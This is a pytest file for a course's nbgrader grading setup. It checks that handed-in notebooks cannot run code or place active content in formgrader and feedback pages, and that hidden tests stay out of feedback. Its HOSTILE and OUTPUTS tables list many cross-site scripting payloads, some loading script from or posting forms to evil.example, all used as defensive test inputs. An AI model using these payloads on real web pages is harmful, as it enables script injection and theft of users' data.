"""nbgrader's own buttons and pages in this course: nothing that was handed in acts there."""

import copy
import json
import os
from collections import Counter
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbgrader.apps.api import NbGraderAPI
from nbgrader.preprocessors import Execute
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

from teaching.exercises import MASTERS
from teaching.grading import gradebook, hooks
from teaching.grading.hooks import markdown
from tests.grading.recorded import HE, dump, handed_in, make_course, mark, notebook, result

pytestmark = [
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),  # of what nbgrader uses
    pytest.mark.filterwarnings("ignore:Object of type <Submitted"),  # of how it adds one
]

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Well, <script>alert(1)</script> it depends.",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script that is not closed": "<script src=//evil.example/x.js>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture in Markdown": '![x](x "a" onerror=alert(1))',
    "picture that asks for a page": "![x](/formgrader/?path=/tmp/eve)",
    "attachment that is not there": "![x](attachment:x.png)",
    "link": "[click](javascript:alert(1))",
    "link with entities": "[click](&#x6a;avascript:alert(1))",
    "link to a page": "[click](/formgrader/gradebook/%22;alert(1)%2F%2F)",
    "link in HTML": '<a href="javascript:alert(1)">click</a>',
    "address": "<https://localhost:8888/formgrader/?path=/tmp/eve>",
    "reference": "[click]\n\n[click]: javascript:alert(1)",
    "drawing": "<svg onload=alert(1)><circle r=1 /></svg>",
    "style in a drawing": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "formula in MathML": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a source": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=//evil.example/x.html></object><embed src=//evil.example/x>",
    "form": "<form action=//evil.example/><button>Full credit</button></form>",
    "input": '<input class="score" autofocus onfocus=alert(1)>',
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "style": "<style>@import '//evil.example/x.css';</style>",
    "attribute": "<p onclick=alert(1) style='position:fixed;inset:0' id=notebook>x</p>",
    "toggled": "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "class of a button": '<span class="full-credit">x</span><span data-link="evil">x</span>',
    "formula": "$<img src=x onerror=alert(1)>$",
    "formula on lines of its own": "$$\n<script>alert(1)</script>\n$$",
    "formula with a link": r"$\href{javascript:alert(1)}{x}$ <a href='javascript:alert(1)'>",
    "environment": r"\begin{x}<img src=x onerror=alert(1)>\end{x}",
    "code": "```html\n<script>alert(1)</script>\n```",
    "code of no language": '```"><script>alert(1)</script>\nx\n```',
    "diagram": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "task": "- [x] <img src=x onerror=alert(1)>",
    "heading": "# <img src=x onerror=alert(1)>",
    "table": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "nested": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "broken": "<img/src='x'/onerror=alert(1) <p <script>>alert(1)//",
    "end of the page": "</div></div></body></html><script>alert(1)</script>",
    "deep": "<div>" * 3_000 + "<script>alert(1)</script>",
    "deep quotes": ">" * 3_000 + "<script>alert(1)</script>",
}
TAG = "<script>alert(1)</script>"
OUTPUTS = {
    "HTML": {"text/html": TAG},
    "drawing": {"image/svg+xml": "<svg onload=alert(1)></svg>"},
    "script": {"application/javascript": "alert(1)"},
    "Markdown": {"text/markdown": TAG},
    "formula": {"text/latex": f"$x$ {TAG}"},
    "picture": {"image/png": '" onerror="alert(1)'},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": TAG}},
    "text": {"text/plain": TAG},
}
ACTIVE = """
    a applet audio base button embed form frame iframe img input link math meta object script
    select style svg template textarea video
""".split()  # noqa: SIM905 (a list would be a page long)


@pytest.fixture
def course(tmp_path, monkeypatch):
    monkeypatch.setenv("JUPYTER_CONFIG_DIR", str(tmp_path / "jupyter"))
    return make_course(tmp_path / "course", monkeypatch)


@pytest.fixture
def api(course):
    """Return what formgrader's buttons call."""
    return NbGraderAPI(course, config=course.config)


@pytest.fixture
def formgrader(course, monkeypatch):
    """Return a function that gives formgrader's page on a notebook."""
    monkeypatch.chdir(course.root)
    extension, server = FormgradeExtension(), SimpleNamespace(settings={})
    extension.root_dir = course.root
    extension.initialize([])
    extension.init_tornado_settings(server)
    exporter = server.settings["nbgrader_exporter"]

    def page(shown):
        path = Path(course.root, "shown.ipynb")
        path.write_text(json.dumps(shown))
        return exporter.from_filename(str(path), resources={"index": 0, "total": 1})[0]

    return page


@pytest.fixture
def feedback(course, api):
    """Return a function that gives the page that nbgrader makes of a recorded notebook."""

    def page(shown, **marks):
        given = result(**marks) | {"notebook": shown}
        gradebook.record(course, HE, handed_in("ada", result=given))
        done = api.generate_feedback(HE, "ada")
        assert done["success"], done
        return Path(course.root, "grading", "feedback", "ada", HE, f"{HE}.html").read_text()

    return page


def hand_in(course, student, data, **others):
    folder = gradebook.path(course, "submitted", student, HE).parent
    folder.mkdir(parents=True)
    (folder / f"{HE}.ipynb").write_bytes(data)
    for name, content in others.items():
        (folder / f"{name}.html").write_text(content)
    return folder


@pytest.fixture
def judged(course, monkeypatch):
    """Put another judge in place of ours, which keeps what it is asked; return that."""
    asked = []

    def grade_one(judging, student, assignment, data):
        assert judging.directory is course
        asked.append((student, assignment, data))
        return result("It depends.", check_gain=mark("check_gain", 1.0))

    monkeypatch.setattr("teaching.grading.run.grade_one", grade_one)
    gradebook.enter(course, HE)
    return asked


# Judging.


@pytest.mark.parametrize(
    "data",
    [
        json.dumps(notebook()).encode(),
        b"no notebook",
        b"",
        b'{"nbformat": 3, "worksheets": []}',
        b'{"nbformat": 99}',
    ],
    ids=["notebook", "text", "empty", "old", "future"],
)
def test_autograding_hands_the_bytes_to_our_judge(course, api, judged, data):
    hand_in(course, "ada", data)
    done = api.autograde(HE, "ada")
    assert done["success"], done
    assert judged == [("ada", HE, data)]


def test_autograding_records_the_result(course, api, judged):
    folder = hand_in(course, "ada", b"{}")
    (folder / "timestamp.txt").write_text("2026-11-01 12:30:15.250000 UTC\n")
    api.autograde(HE, "ada")
    by_nbgrader = dump(course, HE)
    shown = gradebook.path(course, "autograded", "ada", HE).read_bytes()
    gradebook.record(
        course, HE, [("ada", None, b"{}", result(check_gain=mark("check_gain", 1.0)))]
    )
    assert by_nbgrader == dump(course, HE)
    assert by_nbgrader["submissions"]["ada"]["grades"]["check_gain"][0] == 1.0
    assert by_nbgrader["submissions"]["ada"]["received"] == "2026-11-01 12:30:15.250000"
    assert shown == gradebook.path(course, "autograded", "ada", HE).read_bytes()


def test_autograding_runs_nothing(course, api, judged, monkeypatch):
    monkeypatch.setattr(Execute, "__init__", None)
    ran = Path(course.root, "ran")
    hand_in(course, "ada", json.dumps(notebook(gain=f"open({str(ran)!r}, 'w')")).encode())
    assert api.autograde(HE, "ada")["success"]
    assert not ran.exists()


def test_autograding_leaves_no_other_file_where_it_would_be_served(course, api, judged):
    folder = hand_in(course, "ada", b"{}", evil=TAG)
    (folder / "more").mkdir()
    (folder / "more" / "evil.html").write_text(TAG)
    os.symlink("/etc/hostname", folder / "name")
    api.autograde(HE, "ada")
    served = gradebook.path(course, "autograded", "ada", HE).parent
    assert [path.name for path in served.rglob("*")] == [f"{HE}.ipynb"]
    assert Path("/etc/hostname").exists()


def test_what_a_marker_gave_is_looked_at_again_after_autograding(course, api, judged):
    """What the marker saw is removed by nbgrader before it converts: nobody can compare."""
    hand_in(course, "ada", b"{}")
    api.autograde(HE, "ada")
    with api.gradebook as book:
        grade = book.find_grade("why", HE, HE, "ada")
        grade.manual_score, grade.needs_manual_grade = 2.0, False
        book.db.commit()
    api.autograde(HE, "ada")
    assert dump(course, HE)["submissions"]["ada"]["grades"]["why"] == [
        None,
        2.0,
        None,
        True,
    ]


# What pages show.


def active(page):
    """Return what could act, load or lead anywhere in a page, and how often it is there."""
    found = Counter()
    for tag in BeautifulSoup(page, "html.parser").find_all(True):
        acts = [
            name
            for name, value in tag.attrs.items()
            if name.startswith(("on", "data-")) or (name == "style" and value != hooks.WITHIN)
        ]
        called = {"full-credit", "score"} & set(tag.get("class", ()))
        named = "notebook" if tag.get("id") == "notebook" else ""
        if tag.name in ACTIVE or acts or called or named:
            found[tag.name, str(sorted(tag.attrs.items())), tag.text if acts else ""] += 1
    return found


def with_output(output, **changed):
    shown = notebook()
    (cell,) = [cell for cell in shown["cells"] if cell["id"] == "gain"]
    cell |= {"outputs": [output]} | changed
    return shown


@pytest.fixture
def harmless_page(formgrader):
    return active(formgrader(notebook()))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_an_answer_does_nothing_in_formgrader(formgrader, harmless_page, text):
    page = formgrader(notebook(why=text))
    assert active(page) == harmless_page


@pytest.mark.parametrize("text", [*HOSTILE.values()][::6], ids=[*HOSTILE][::6])
def test_an_answer_or_a_reason_does_nothing_in_feedback(feedback, text):
    harmless = active(feedback(notebook(), check_gain=mark("check_gain", 0.0, "It is 2.")))
    page = feedback(notebook(why=text), check_gain=mark("check_gain", 0.0, text[:500]))
    assert active(page) == harmless


@pytest.mark.parametrize("data", OUTPUTS.values(), ids=OUTPUTS)
@pytest.mark.parametrize("kind", ["display_data", "execute_result"])
def test_an_output_does_nothing(formgrader, harmless_page, data, kind):
    wide = {"width": "1 onerror=alert(1)"}
    metadata = {name: wide | {"isolated": True} for name in data}
    output = {"output_type": kind, "data": data, "metadata": metadata, "execution_count": 1}
    page = formgrader(with_output({name: output[name] for name in output}))
    assert active(page) == harmless_page


@pytest.mark.parametrize(
    "shown",
    [
        with_output({"output_type": "stream", "name": "stdout", "text": TAG}),
        with_output({"output_type": "stream", "name": TAG, "text": TAG}),
        with_output({"output_type": "error", "ename": TAG, "evalue": TAG, "traceback": [TAG]}),
        with_output({"output_type": "stream", "name": "stdout", "text": ""}, source=TAG),
    ],
    ids=["stream", "name", "error", "source"],
)
def test_a_code_cell_does_nothing(formgrader, harmless_page, shown):
    assert active(formgrader(shown)) == harmless_page


@pytest.mark.parametrize(
    "cell",
    [
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": TAG},
        {"cell_type": "markdown", "metadata": {"tags": [f'">{TAG}']}, "source": ""},
        {
            "cell_type": "markdown",
            "metadata": {"nbgrader": {"grade_id": f'">{TAG}', "solution": True}},
            "source": "",
        },
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": "![x](attachment:x.svg)",
            "attachments": {"x.svg": {"image/svg+xml": "PHN2Zz4="}},
        },
    ],
    ids=["raw", "tags", "name", "attachment"],
)
def test_an_added_cell_does_nothing(formgrader, harmless_page, cell):
    shown = notebook()
    shown["cells"].append({"id": "extra"} | cell)
    assert active(formgrader(shown)) == harmless_page


def test_the_metadata_of_a_notebook_does_nothing(formgrader, harmless_page):
    shown = notebook()
    shown["metadata"] |= {"title": TAG, "widgets": {TAG: TAG}}
    assert active(formgrader(shown)) == harmless_page


def test_the_guard_of_these_tests_sees_what_acts():
    for text in (TAG, HOSTILE["picture"], HOSTILE["link in HTML"], HOSTILE["attribute"]):
        assert active(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It is **so**.", "<p>It is <strong>so</strong>.</p>"),
        ("* one\n* two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("# Why\n\n> so", "<h1>Why</h1>\n<blockquote>\n<p>so</p>\n</blockquote>"),
        ("|a|\n|-|\n|1|", "<td>1</td>"),
        ("`a < b`", "<code>a &lt; b</code>"),
        ("```python\nreturn 1\n```", '<span class="k">return</span>'),
        ("a < b and c > d", "a &lt; b and c &gt; d"),
        ("if $a<b$ then $c>d$", "if $a&lt;b$ then $c&gt;d$"),
        ("$$\na < b \\\\ c\n$$", "$$\na &lt; b \\\\ c\n$$"),
        (
            r"\begin{align} a &< b \end{align}",
            r"\begin{align} a &amp;&lt; b \end{align}",
        ),
        ("$w_{1} * w_{2} * w_3$", "$w_{1} * w_{2} * w_3$"),
        (
            "<details><summary>Hint</summary>\n\nSo.\n\n</details>",
            "<summary>Hint</summary>\n\n<p>So.</p>",
        ),
        ("[a book](https://example.org)", "a book (https://example.org)"),
        ("<https://example.org>", "<p>https://example.org</p>"),
        ("![a curve](curve.png)", "a curve (curve.png)"),
        (TAG, "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("½, σ and 你", "½, σ and 你"),
    ],
)
def test_what_is_no_harm_is_shown(text, shown):
    assert shown in markdown({}, text)


def test_a_formula_as_large_as_it_likes_stays_where_it_is(formgrader):
    page = formgrader(notebook(why=r"$\rule{100000em}{100000em}$"))
    before = page[: page.index("rule{100000em}")]
    assert f'<div style="{hooks.WITHIN}">' in before[before.rindex("<div") :]


PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
    "hgGAWjR9awAAAABJRU5ErkJggg=="
)


def with_attachment(content):
    made = notebook(why="Here: ![](attachment:photo.png)")
    for cell in made["cells"]:
        if cell["id"] == "why":
            cell["attachments"] = {"photo.png": content}
    return made


def test_a_picture_in_an_answer_is_shown(formgrader):
    page = formgrader(with_attachment({"image/png": PIXEL}))
    assert f'<img alt="photo.png" src="data:image/png;base64,{PIXEL}"' in page


@pytest.mark.parametrize(
    "content", [{"image/png": f'{PIXEL}" onerror="{TAG}'}, {"image/svg+xml": TAG}, {}]
)
def test_another_attachment_does_nothing(formgrader, harmless_page, content):
    page = formgrader(with_attachment(content))
    assert "data:image" not in page
    assert active(page) == harmless_page


def secrets():
    """Return the master as nobody should be sent it: with hidden tests and marking schemes."""
    master = json.loads((MASTERS / HE / f"{HE}.ipynb").read_text())
    return nbformat.from_dict(copy.deepcopy(master))


def test_feedback_holds_no_hidden_test_and_no_marking_scheme(feedback):
    page = feedback(secrets())
    assert "Off on one sample is not dead" not in page
    assert "instructors_secret" not in page
    assert "A friend says" in page


def test_formgrader_shows_the_marking_scheme(formgrader):
    assert "Off on one sample is not dead" in formgrader(secrets())


def test_markers_of_hidden_tests_in_an_answer_are_its_words(feedback):
    page = feedback(notebook(why="### BEGIN HIDDEN TESTS\n\nSee, it depends."))
    assert "See, it depends." in page


def test_formgrader_does_not_show_its_configuration(course):
    """It has the password of the database."""
    assert FormgradeExtension(config=course.config).debug is False
